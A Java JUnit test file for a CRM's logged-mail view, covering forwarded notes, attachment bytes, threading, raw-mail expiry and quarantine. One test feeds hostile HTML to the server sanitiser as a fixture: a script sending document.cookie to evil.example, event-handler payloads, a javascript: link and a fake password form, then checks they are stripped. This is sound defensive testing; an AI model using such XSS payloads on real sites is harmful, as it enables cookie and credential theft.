package app.integreat.crm.local;

import static app.integreat.crm.local.TestMails.mail;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import app.integreat.crm.local.TestCrm.Caller;
import app.integreat.crm.local.TestCrm.Reply;
import java.net.URI;
import java.net.URLDecoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.s3.model.HeadObjectRequest;
import software.amazon.awssdk.services.s3.model.NoSuchKeyException;

/**
 * The logged mail, whole: the forwarder's note, attachments kept with their bytes (also those of a message
 * forwarded as attachment), inline images, the sanitised HTML, the thread, more links, the raw mail's
 * expiry, and the quarantine worked from the API. Through SES events and raw mails in the emulator's S3.
 */
class MailViewTest {
    static TestCrm crm;
    static Caller admin;
    static String member = "jonas@integreat.example";
    static String augsburg;
    static String erika;

    static final byte[] PDF = bytes(40_000, 1);
    static final byte[] LOGO = bytes(3_000, 2);
    static final byte[] PLAN = bytes(70_000, 3);

    @BeforeAll
    static void start() {
        crm = new TestCrm();
        admin = crm.admin();
        crm.member(member, "MEMBER");
        augsburg = admin.post("/accounts", Map.of("name", "Stadt Augsburg", "type", "MUNICIPALITY",
                "emailDomains", List.of("augsburg.de"))).string("id");
        erika = admin.post("/contacts", Map.of("firstName", "Erika", "lastName", "Müller",
                "emails", List.of("erika.mueller@augsburg.de"), "accountId", augsburg)).string("id");
    }

    static byte[] bytes(int size, int seed) {
        byte[] bytes = new byte[size];
        new java.util.Random(seed).nextBytes(bytes);
        return bytes;
    }

    static String base64(byte[] bytes) {
        return Base64.getMimeEncoder(76, "\n".getBytes()).encodeToString(bytes);
    }

    static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }

    /** The interaction a mail became (the function's answer names it). */
    static Reply received(TestCrm crm, Caller caller, String raw) {
        Map<String, Object> result = crm.inbound().deliver(raw.getBytes(StandardCharsets.UTF_8), "sender@example.org",
                List.of(crm.inboundAddress()), LocalInbound.Verdicts.PASS);
        assertNotNull(result.get("id"), result::toString);
        Reply interaction = caller.get("/interactions/" + result.get("id"));
        assertEquals(200, interaction.status(), interaction::toString);
        return interaction;
    }

    @SuppressWarnings("unchecked")
    static List<Map<String, Object>> list(Reply reply, String field) {
        return (List<Map<String, Object>>) reply.json().get(field);
    }

    /** Follows the 302 of an attachment route and downloads what the presigned link serves. */
    static HttpResponse<byte[]> download(String location) throws Exception {
        return HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(location)).build(),
                HttpResponse.BodyHandlers.ofByteArray());
    }

    static String query(String url, String name) {
        for (String pair : URI.create(url).getRawQuery().split("&")) {
            int eq = pair.indexOf('=');
            if (URLDecoder.decode(pair.substring(0, eq), StandardCharsets.UTF_8).equalsIgnoreCase(name)) {
                return URLDecoder.decode(pair.substring(eq + 1), StandardCharsets.UTF_8);
            }
        }
        return null;
    }

    @Test
    void aForwardKeepsTheForwardersNoteApartFromTheOriginal() {
        String raw = mail().from(member).to(crm.inboundAddress()).subject("WG: Preisanfrage")
                .messageId("note-1@integreat.example").text("""
                        Bitte zur Akte, Preis verhandelbar

                        ---------- Forwarded message ---------
                        From: Erika Müller <erika.mueller@augsburg.de>
                        Date: Mon, 23 Nov 2026 at 14:05
                        Subject: Preisanfrage
                        To: Jonas <%s>

                        Was kostet die App für 300.000 Einwohner?
                        """.formatted(member)).build();
        Reply interaction = received(crm, admin, raw);
        assertEquals("Bitte zur Akte, Preis verhandelbar", interaction.string("note"));
        assertTrue(interaction.string("body").startsWith("Was kostet die App"), interaction::toString);
        assertFalse(interaction.string("body").contains("Bitte zur Akte"), "the note is not part of the original");
        assertEquals("INBOUND", interaction.string("direction"));
        assertEquals(List.of(erika), interaction.json().get("contactIds"));
        Map<String, Object> participant = list(interaction, "participants").get(0);
        assertEquals(List.of("CONTACT_ADDRESS", "CONTACT_ACCOUNT"), participant.get("reasons"), participant::toString);
    }

    /** A message forwarded as attachment, whose original has an HTML body with an inline logo and two files. */
    static String rfc822Forward(String messageId) {
        String original = """
                From: Erika Müller <erika.mueller@augsburg.de>
                To: Jonas <%s>
                Subject: Prüfbericht und Pläne
                Date: Mon, 23 Nov 2026 14:05:00 +0100
                Message-ID: <original-%s@augsburg.de>
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="outer"

                --outer
                Content-Type: multipart/related; boundary="rel"

                --rel
                Content-Type: text/html; charset=UTF-8

                <html><body><p>Sehr geehrter Herr, anbei der <a href="https://augsburg.de/bericht">Bericht</a>.</p>
                <img src="cid:logo@augsburg.de" alt="Logo"></body></html>
                --rel
                Content-Type: image/png
                Content-ID: <logo@augsburg.de>
                Content-Transfer-Encoding: base64

                %s
                --rel--
                --outer
                Content-Type: application/pdf
                Content-Disposition: attachment; filename*=UTF-8''Pr%%C3%%BCfbericht%%20M%%C3%%BCller.pdf
                Content-Transfer-Encoding: base64

                %s
                --outer
                Content-Type: application/octet-stream
                Content-Disposition: attachment; filename="plan.dwg"
                Content-Transfer-Encoding: base64

                %s
                --outer--
                """.formatted(member, messageId, base64(LOGO), base64(PDF), base64(PLAN));
        return mail().from(member).to(crm.inboundAddress()).subject("Fwd: Prüfbericht und Pläne")
                .messageId(messageId + "@integreat.example").header("MIME-Version", "1.0")
                .header("Content-Type", "multipart/mixed; boundary=\"fwd\"")
                .rawBody("--fwd\nContent-Type: text/plain; charset=UTF-8\n\nZur Akte Augsburg.\n--fwd\n"
                        + "Content-Type: message/rfc822\nContent-Disposition: attachment; filename=\"original.eml\"\n\n"
                        + original + "\n--fwd--\n").build();
    }

    @Test
    void theAttachmentsOfAMessageForwardedAsAttachmentAreKeptWithTheirBytes() throws Exception {
        Reply interaction = received(crm, admin, rfc822Forward("rfc-1"));
        assertEquals("Zur Akte Augsburg.", interaction.string("note"));
        // the view with kept attachments is as docs/openapi.yaml describes it (the properties there see no attachments)
        assertEquals(List.of(), OpenApi.load().violations("GET /interactions/{id}", 200, interaction.json()));
        List<Map<String, Object>> attachments = list(interaction, "attachments");
        assertEquals(List.of("image/png", "application/pdf", "application/octet-stream"),
                attachments.stream().map(a -> a.get("mimeType")).toList(), attachments::toString);
        Map<String, Object> logo = attachments.get(0);
        Map<String, Object> pdf = attachments.get(1);
        Map<String, Object> plan = attachments.get(2);
        assertEquals(Boolean.TRUE, logo.get("inline"), "the logo is shown by the HTML");
        assertEquals(Boolean.FALSE, pdf.get("inline"));
        assertEquals("Prüfbericht Müller.pdf", pdf.get("filename"));
        assertEquals(sha256(PDF), pdf.get("sha256"));
        assertEquals((long) PDF.length, ((Number) pdf.get("sizeBytes")).longValue());
        assertEquals(sha256(LOGO), logo.get("sha256"));

        String html = interaction.string("html");
        assertTrue(html.contains("data-attachment=\"" + logo.get("n") + "\""), html);
        assertFalse(html.contains("cid:"), html);
        assertTrue(html.contains("href=\"https://augsburg.de/bericht\"") && html.contains("rel=\"noopener noreferrer\""), html);

        for (Map<String, Object> attachment : attachments) {
            Reply redirect = admin.get((String) attachment.get("url"));
            assertEquals(302, redirect.status(), redirect::toString);
            HttpResponse<byte[]> file = download(redirect.header("Location"));
            assertEquals(200, file.statusCode());
            assertEquals(attachment.get("sha256"), sha256(file.body()), "the bytes of " + attachment.get("filename"));
        }
        String location = admin.get((String) pdf.get("url")).header("Location");
        assertEquals("attachment; filename=\"Pr_fbericht M_ller.pdf\"; filename*=UTF-8''Pr%C3%BCfbericht%20M%C3%BCller.pdf",
                query(location, "response-content-disposition"));
        assertEquals("application/pdf", query(location, "response-content-type"));
        assertEquals("300", query(location, "X-Amz-Expires"), "the link lives five minutes");
        Reply json = admin.get(pdf.get("url") + "?redirect=false");
        assertEquals(200, json.status());
        assertNotNull(json.string("url"));
        assertEquals(404, admin.get("/interactions/" + interaction.string("id") + "/attachments/9").status());
        assertEquals(404, admin.get("/interactions/" + interaction.string("id") + "/attachments/x").status());
    }

    @Test
    void theHtmlBodyIsSanitisedOnTheServer() {
        String html = """
                <html><head><script>alert('head')</script><style>body{background:url(https://t.example/bg)}</style></head>
                <body onload="steal()"><p>Guten Tag,</p>
                <script>document.location='https://evil.example/'+document.cookie</script>
                <img src="x" onerror="alert(1)">
                <img src="https://tracker.example/open.gif?u=42" width="1" height="1">
                <a href="javascript:alert(2)">klick</a>
                <a href="https://integreat-app.de/preise" onclick="track()">Preise</a>
                <form action="https://evil.example/login" method="post"><input name="password" type="password"><button>Login</button></form>
                <iframe src="https://evil.example/frame"></iframe>
                <p style="background-image:url(https://t.example/px)">Viele Grüße</p>
                </body></html>
                """;
        String raw = mail().from(member).to("Erika Müller <erika.mueller@augsburg.de>").subject("Preise")
                .messageId("html-1@integreat.example").header("MIME-Version", "1.0")
                .header("Content-Type", "multipart/alternative; boundary=\"alt\"")
                .rawBody("--alt\nContent-Type: text/plain; charset=UTF-8\n\nGuten Tag, Viele Grüße\n--alt\n"
                        + "Content-Type: text/html; charset=UTF-8\n\n" + html + "\n--alt--\n").build();
        Reply interaction = received(crm, admin, raw);
        String safe = interaction.string("html");
        assertNotNull(safe, interaction::toString);
        for (String gone : List.of("<script", "alert(", "onerror", "onload", "onclick", "javascript:", "<form", "<input",
                "password", "<iframe", "evil.example", "url(", "<style", " src=\"https://tracker")) {
            assertFalse(safe.contains(gone), gone + " is gone from " + safe);
        }
        assertTrue(safe.contains("<a href=\"https://integreat-app.de/preise\" target=\"_blank\" rel=\"noopener noreferrer\">Preise</a>"), safe);
        assertTrue(safe.contains("data-remote-src=\"https://tracker.example/open.gif?u=42\""), "the remote image waits: " + safe);
        assertTrue(safe.contains("Viele Grüße"), safe);
        assertEquals("Guten Tag, Viele Grüße", interaction.string("body"));
    }

    @Test
    void theMailsOfOneConversationShowEachOther() {
        Reply first = received(crm, admin, mail().from(member).to("erika.mueller@augsburg.de").subject("Termin")
                .messageId("thread-1@integreat.example").text("Passt Dienstag?").build());
        Reply second = received(crm, admin, mail().from(member).to("erika.mueller@augsburg.de").subject("Re: Termin")
                .messageId("thread-2@integreat.example").header("In-Reply-To", "<thread-1@integreat.example>")
                .header("References", "<thread-1@integreat.example>").text("Dann 10 Uhr.").build());
        Reply third = received(crm, admin, mail().from(member).to("erika.mueller@augsburg.de").subject("Re: Termin")
                .messageId("thread-3@integreat.example").header("In-Reply-To", "<thread-2@integreat.example>")
                .header("References", "<thread-1@integreat.example> <thread-2@integreat.example>").text("Bestätigt.").build());
        Reply other = received(crm, admin, mail().from(member).to("erika.mueller@augsburg.de").subject("Anderes")
                .messageId("thread-x@integreat.example").text("...").build());

        List<Object> thread = list(admin.get("/interactions/" + third.string("id")), "thread").stream().map(e -> e.get("id")).toList();
        assertEquals(List.of(first.string("id"), second.string("id")), thread);
        assertEquals(List.of(second.string("id"), third.string("id")),
                list(admin.get("/interactions/" + first.string("id")), "thread").stream().map(e -> e.get("id")).toList());
        assertEquals(List.of(), list(admin.get("/interactions/" + other.string("id")), "thread"));
    }

    @Test
    void aLongConversationShowsABoundedThread() {
        TestCrm fresh = new TestCrm();
        Caller caller = fresh.member(member, "MEMBER");
        List<String> ids = new java.util.ArrayList<>();
        for (int i = 0; i < 12; i++) {
            TestMails mail = mail().from(member).to("someone@elsewhere.example").subject("Re: Lange Runde")
                    .messageId("long-" + i + "@integreat.example");
            if (i > 0) {
                mail.header("References", "<long-0@integreat.example>");
            }
            ids.add(received(fresh, caller, mail.text("Nummer " + i).build()).string("id"));
        }
        List<Object> newest = list(caller.get("/interactions/" + ids.get(11)), "thread").stream().map(e -> e.get("id")).toList();
        assertEquals(ids.subList(3, 11), newest, "the 8 before it");
        List<Object> first = list(caller.get("/interactions/" + ids.get(0)), "thread").stream().map(e -> e.get("id")).toList();
        assertEquals(ids.subList(1, 9), first, "the 8 later ones that found it among their newest");
        List<Object> middle = list(caller.get("/interactions/" + ids.get(5)), "thread").stream().map(e -> e.get("id")).toList();
        assertEquals(11, middle.size(), "5 before and 6 after: " + middle);
    }

    @Test
    void aMailCanBeAddedToAnotherRecord() {
        TestCrm fresh = new TestCrm();
        Caller caller = fresh.member(member, "MEMBER");
        String kempten = caller.post("/accounts", Map.of("name", "Stadt Kempten", "type", "MUNICIPALITY")).string("id");
        String opportunity = caller.post("/opportunities", Map.of("name", "Kempten Standard", "type", "STANDARD",
                "accountIds", List.of(kempten), "ownerId", caller.get("/me").string("id"))).string("id");
        String peter = caller.post("/contacts", Map.of("firstName", "Peter", "lastName", "Kurz", "accountId", kempten)).string("id");
        Reply mail = received(fresh, caller, mail().from(member).to("someone@elsewhere.example").subject("Weitergeleitet")
                .text("...").build());
        String id = mail.string("id");
        assertEquals(Boolean.TRUE, mail.json().get("unresolved"));
        assertEquals("...", caller.get("/unresolved").items().get(0).get("preview"), "the inbox shows the text's beginning");

        Reply linked = caller.post("/interactions/" + id + "/links", Map.of("contactId", peter));
        assertEquals(200, linked.status(), linked::toString);
        assertEquals(List.of(peter), linked.json().get("contactIds"));
        assertEquals(List.of(kempten), linked.json().get("accountIds"), "the contact's account too");
        assertEquals(Boolean.FALSE, linked.json().get("unresolved"), "it left the inbox");
        assertEquals(List.of(), caller.get("/unresolved").items());
        assertEquals(id, caller.get("/contacts/" + peter + "/timeline").items().get(0).get("refId"));

        Reply withOpportunity = caller.ifMatch(linked.etag()).post("/interactions/" + id + "/links", Map.of("recordId", opportunity));
        assertEquals(200, withOpportunity.status(), withOpportunity::toString);
        assertEquals(List.of(opportunity), withOpportunity.json().get("opportunityIds"));
        assertEquals(412, caller.ifMatch(linked.etag()).post("/interactions/" + id + "/links", Map.of("accountId", kempten)).status());
        Reply unknown = caller.post("/interactions/" + id + "/links", Map.of("accountId", "01ARZ3NDEKTSV4RRFFQ69G5FAV"));
        assertEquals(422, unknown.status(), unknown::toString);
        assertTrue(unknown.body().contains("accountId"));
        assertEquals(422, caller.post("/interactions/" + id + "/links", Map.of("contactId", peter, "accountId", kempten)).status());
        assertEquals(422, caller.post("/interactions/" + id + "/links", Map.of()).status());
    }

    @Test
    void aMailWhoseRawMailExpiredSaysSoInsteadOfOfferingADeadLink() {
        TestClock clock = new TestClock(Instant.now());
        TestCrm fresh = new TestCrm(clock);
        Caller caller = fresh.member(member, "MEMBER");
        Reply mail = received(fresh, caller, mail().from(member).to("someone@elsewhere.example").subject("Alt")
                .text("...").build());
        String id = mail.string("id");
        @SuppressWarnings("unchecked")
        Map<String, Object> raw = (Map<String, Object>) mail.json().get("rawMail");
        assertEquals(Boolean.FALSE, raw.get("expired"));
        assertEquals("/interactions/" + id + "/raw", raw.get("url"));
        assertEquals(302, caller.get("/interactions/" + id + "/raw").status());

        clock.advance(Duration.ofDays(731));
        Reply later = caller.get("/interactions/" + id);
        @SuppressWarnings("unchecked")
        Map<String, Object> expired = (Map<String, Object>) later.json().get("rawMail");
        assertEquals(Boolean.TRUE, expired.get("expired"), later::toString);
        assertNull(expired.get("url"));
        assertEquals(Boolean.FALSE, later.json().get("hasRawMail"));
        Reply dead = caller.get("/interactions/" + id + "/raw");
        assertEquals(404, dead.status());
        assertTrue(dead.body().contains("expired"), dead::toString);
    }

    @Test
    void discardingAnUnresolvedMailDeletesItsKeptFiles() {
        TestCrm fresh = new TestCrm();
        Caller caller = fresh.member(member, "MEMBER");
        String raw = mail().from(member).to("unknown@elsewhere.example").subject("Mit Anhang")
                .messageId("discard-1@integreat.example").header("MIME-Version", "1.0")
                .header("Content-Type", "multipart/mixed; boundary=\"b\"")
                .rawBody("--b\nContent-Type: text/plain\n\nAnbei.\n--b\nContent-Type: application/pdf\n"
                        + "Content-Disposition: attachment; filename=\"a.pdf\"\nContent-Transfer-Encoding: base64\n\n"
                        + base64(PDF) + "\n--b--\n").build();
        Reply mail = received(fresh, caller, raw);
        String location = caller.get((String) list(mail, "attachments").get(0).get("url")).header("Location");
        String key = URI.create(location).getPath().replaceFirst("^/[^/]+/", "");
        var s3 = fresh.crm.services().s3();
        String bucket = fresh.crm.services().config().rawMailBucket();
        s3.headObject(HeadObjectRequest.builder().bucket(bucket).key(key).build());
        assertEquals(204, caller.delete("/unresolved/" + mail.string("id")).status());
        assertThrows(NoSuchKeyException.class, () -> s3.headObject(HeadObjectRequest.builder().bucket(bucket).key(key).build()));
    }

    @Test
    void theWorstCaseMailKeepsItsListsBounded() {
        TestCrm fresh = new TestCrm();
        Caller caller = fresh.member(member, "MEMBER");
        StringBuilder body = new StringBuilder("--b\nContent-Type: text/plain\n\nViele Dateien.\n");
        for (int i = 0; i < 120; i++) {
            body.append("--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename=\"f").append(i)
                    .append(".txt\"\n\nDatei ").append(i).append('\n');
        }
        body.append("--b--\n");
        String raw = mail().from(member).to("unknown@elsewhere.example").subject("120 Dateien")
                .messageId("many-1@integreat.example").header("MIME-Version", "1.0")
                .header("Content-Type", "multipart/mixed; boundary=\"b\"").rawBody(body.toString()).build();
        Reply mail = received(fresh, caller, raw);
        List<Map<String, Object>> attachments = list(mail, "attachments");
        assertEquals(100, attachments.size(), "at most 100 are listed");
        assertEquals(50, attachments.stream().filter(a -> Boolean.TRUE.equals(a.get("kept"))).count(), "50 are kept");
        assertTrue(((String) attachments.get(50).get("notKeptReason")).contains("50"), attachments.get(50)::toString);
        assertTrue(mail.body().length() < 400_000, "the answer stays small: " + mail.body().length());
    }

    @Test
    void aQuarantinedMailIsReleasedAsIfTheMemberHadSentItOrDeleted() {
        TestCrm fresh = new TestCrm();
        Caller lena = fresh.member(member, "MEMBER");
        Caller boss = fresh.admin();
        String city = boss.post("/accounts", Map.of("name", "Stadt Ulm", "type", "MUNICIPALITY")).string("id");
        String anna = boss.post("/contacts", Map.of("firstName", "Anna", "lastName", "Ulmer",
                "emails", List.of("anna@ulm.de"), "accountId", city)).string("id");
        String memberId = lena.get("/me").string("id");
        String privateMail = mail().from("Jonas privat <jonas.privat@gmx.example>").to("anna@ulm.de").subject("Von zu Hause")
                .messageId("private-1@gmx.example").text("Hallo Frau Ulmer").build();
        fresh.receive(privateMail, fresh.inboundAddress());
        fresh.receive(mail().from("spam@evil.example").to(fresh.inboundAddress()).subject("Gewinn").text("!!!").build(),
                fresh.inboundAddress());
        Reply quarantine = boss.get("/quarantine");
        List<Map<String, Object>> quarantined = quarantine.items();
        assertEquals(2, quarantined.size(), quarantined::toString);
        assertEquals(List.of(), OpenApi.load().violations("GET /quarantine", 200, quarantine.json()));
        String spam = (String) quarantined.get(0).get("id");
        String released = (String) quarantined.get(1).get("id");

        assertEquals(403, lena.post("/quarantine/" + released + "/release", Map.of("memberId", memberId)).status());
        assertEquals(403, lena.delete("/quarantine/" + spam).status());
        assertEquals(422, boss.post("/quarantine/" + released + "/release", Map.of()).status());
        assertEquals(422, boss.post("/quarantine/" + released + "/release", Map.of("memberId", "01ARZ3NDEKTSV4RRFFQ69G5FAV")).status());

        Reply release = boss.post("/quarantine/" + released + "/release", Map.of("memberId", memberId));
        assertEquals(200, release.status(), release::toString);
        assertEquals("LOGGED", release.string("result"));
        assertEquals(List.of(), OpenApi.load().violations("POST /quarantine/{id}/release", 200, release.json()));
        Reply interaction = boss.get("/interactions/" + release.string("interactionId"));
        assertEquals(List.of(anna), interaction.json().get("contactIds"));
        assertEquals(memberId, interaction.string("authorId"));
        assertEquals("OUTBOUND", interaction.string("direction"));
        assertEquals(List.of("anna@ulm.de"), list(interaction, "participants").stream().map(p -> p.get("email")).toList(),
                "the member's private address is no counterpart");
        assertEquals(release.string("interactionId"), lena.get("/contacts/" + anna + "/timeline").items().get(0).get("refId"));
        assertEquals(404, boss.post("/quarantine/" + released + "/release", Map.of("memberId", memberId)).status(),
                "released once");
        assertEquals(1, lena.get("/contacts/" + anna + "/timeline").items().size());

        String rawKey = "mail/" + quarantined.get(0).get("sesMessageId");
        var s3 = fresh.crm.services().s3();
        String bucket = fresh.crm.services().config().rawMailBucket();
        s3.headObject(HeadObjectRequest.builder().bucket(bucket).key(rawKey).build());
        assertEquals(204, boss.delete("/quarantine/" + spam).status());
        assertThrows(NoSuchKeyException.class, () -> s3.headObject(HeadObjectRequest.builder().bucket(bucket).key(rawKey).build()),
                "its raw mail is gone");
        assertEquals(List.of(), boss.get("/quarantine").items());
        assertEquals(404, boss.delete("/quarantine/" + spam).status());
    }
}
